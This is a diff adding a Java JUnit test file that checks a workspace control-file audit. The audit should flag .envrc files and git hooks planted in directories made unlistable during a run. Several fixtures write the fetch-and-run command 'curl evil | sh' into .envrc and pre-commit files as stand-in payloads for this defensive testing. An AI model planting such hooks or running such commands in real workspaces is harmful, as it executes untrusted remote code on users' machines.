@@ -1,0 +1,191 @@
+package dev.magus.workspace.audit;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.magus.events.Code;
+import dev.magus.events.Layer;
+import dev.magus.policy.control.ControlFiles;
+import dev.magus.policy.path.DirectoryReader;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/**
+ * A directory the audit cannot list never hides a change (issue 12): the run that leaves one is
+ * an MGS2002 naming it, unless it provably kept everyone out during the run. A user without
+ * root's {@code CAP_DAC_*} is emulated through the reader seam ({@link AsAUser}): as root every
+ * directory is listable, and the same tree is audited as usual ({@link #asRootTheChangeIsSeenThrough}).
+ */
+class UnlistedDirectoryTest {
+    Path ws;
+
+    /** The DAC checks a user without capabilities meets: read to list a directory, search to pass it. */
+    static final class AsAUser implements DirectoryReader {
+        private final DirectoryReader real = Readers.java();
+        private final Path top;
+
+        AsAUser(Path top) {
+            this.top = top;
+        }
+
+        private int mode(Path p) {
+            return real.stat(p.toString()).map(DirectoryReader.Stamp::permissions).orElse(0);
+        }
+
+        private boolean reachable(Path p) {
+            for (Path a = p.getParent(); a != null && a.startsWith(top); a = a.getParent()) {
+                if ((mode(a) & 0100) == 0) {
+                    return false;
+                }
+            }
+            return true;
+        }
+
+        @Override
+        public Optional<Stamp> stat(String absolutePath) {
+            Path p = Path.of(absolutePath);
+            return reachable(p) ? real.stat(absolutePath) : Optional.empty();
+        }
+
+        @Override
+        public Optional<Listing> list(String absolutePath) {
+            Path p = Path.of(absolutePath);
+            return reachable(p) && (mode(p) & 0400) != 0 ? real.list(absolutePath) : Optional.empty();
+        }
+    }
+
+    @BeforeEach
+    void makeWorkspace() throws IOException {
+        ControlFileAudit.forgetWalks();
+        ws = Files.createTempDirectory("magus-unlisted-test-").toRealPath();
+        Files.createDirectories(ws.resolve(".git/hooks"));
+    }
+
+    @AfterEach
+    void removeWorkspace() throws IOException {
+        ControlFileAudit.forgetWalks();
+        Restorer.removeEntry(ws);
+    }
+
+    private ControlFileAudit audit(DirectoryReader reader) {
+        return ControlFileAudit.of(ControlFiles.of(ws, List.of(ws.resolve(".git"))), reader);
+    }
+
+    private ControlFileAudit asAUser() {
+        return audit(new AsAUser(ws));
+    }
+
+    private static void chmod(Path p, int mode) throws IOException {
+        Files.setAttribute(p, "unix:mode", mode);
+    }
+
+    private static void assertUnaudited(ControlFileAudit.Report report, Path... dirs) {
+        assertThat(report.changed()).isTrue();
+        assertThat(report.unaudited()).containsExactly(dirs);
+        assertThat(report.diagnostics()).hasSize(dirs.length).allSatisfy(d -> {
+            assertThat(d.code()).isEqualTo(Code.MGS2002);
+            assertThat(d.layer()).isEqualTo(Layer.AUDIT);
+            assertThat(d.message()).contains("cannot be audited").contains("chmod u+rwx");
+            assertThat(d.details()).containsEntry("change", "unaudited").containsEntry("restored", "false");
+        });
+        for (int i = 0; i < dirs.length; i++) {
+            assertThat(report.diagnostics().get(i).subject()).isEqualTo(dirs[i].toString());
+        }
+    }
+
+    @Test
+    void aControlFilePlantedInADirectoryTheRunThenMadeUnlistableFailsTheRunNamingIt() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub/deeper"));
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
+        chmod(ws.resolve("sub"), 0);
+        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), ws.resolve("sub"));
+    }
+
+    @Test
+    void asRootTheChangeIsSeenThrough() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub"));
+        ControlFileAudit.Baseline baseline = audit(Readers.java()).before();
+        Path envrc = Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
+        chmod(sub, 0);
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        assertThat(report.unaudited()).isEmpty();
+        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Created.class,
+                c -> assertThat(c.path()).isEqualTo(envrc));
+        assertThat(envrc).doesNotExist();
+    }
+
+    @Test
+    void aDirectoryUnlistableBeforeAndUntouchedByTheRunPasses() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub"));
+        Files.writeString(sub.resolve(".envrc"), "export A=1\n");
+        chmod(sub, 0);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        Files.writeString(ws.resolve("unrelated.txt"), "x");
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        assertThat(report.changed()).as("%s", report.diagnostics()).isFalse();
+        // And the next run, from this process's last walk, the same.
+        ControlFileAudit.Baseline next = asAUser().before();
+        assertThat(next.after(ControlFilesAction.RESTORE).changed()).isFalse();
+    }
+
+    @Test
+    void aDirectoryUnlistableBeforeThatTheRunOpenedFails() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub"));
+        chmod(sub, 0);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        chmod(sub, 0700);
+        Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
+        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), sub);
+    }
+
+    @Test
+    void aDirectoryUnlistableBeforeThatTheRunClosedAgainFails() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub"));
+        chmod(sub, 0);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        chmod(sub, 0700);
+        Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
+        chmod(sub, 0);
+        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), sub);
+    }
+
+    @Test
+    void aSearchableButUnreadableDirectoryFailsEvenWithItsTimesUnchanged() throws IOException {
+        Path inner = Files.createDirectories(ws.resolve("sub/inner"));
+        chmod(ws.resolve("sub"), 0300);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        // A name beneath it is reachable without listing it, and writing there leaves sub as it was.
+        Files.writeString(inner.resolve(".envrc"), "curl evil | sh\n");
+        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), ws.resolve("sub"));
+    }
+
+    @Test
+    void aHooksDirectoryMadeUnlistableFailsAndIsNotReportedAsAModeChangeOnly() throws IOException {
+        Path hooks = ws.resolve(".git/hooks");
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        Files.writeString(hooks.resolve("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
+        chmod(hooks, 0);
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        assertUnaudited(report, hooks);
+        assertThat(report.changes()).isEmpty();
+    }
+
+    @Test
+    void aDirectoryNoLongerSearchableHidesNothingEither() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub/inner"));
+        Path envrc = Files.writeString(sub.resolve(".envrc"), "export A=1\n");
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        Files.writeString(envrc, "curl evil | sh\n");
+        chmod(ws.resolve("sub"), 0600);
+        // sub can be listed, but nothing beneath it stat'ed: inner is named yet unreachable.
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        assertThat(report.changed()).isTrue();
+        assertThat(report.unaudited()).containsExactly(sub);
+    }
+}
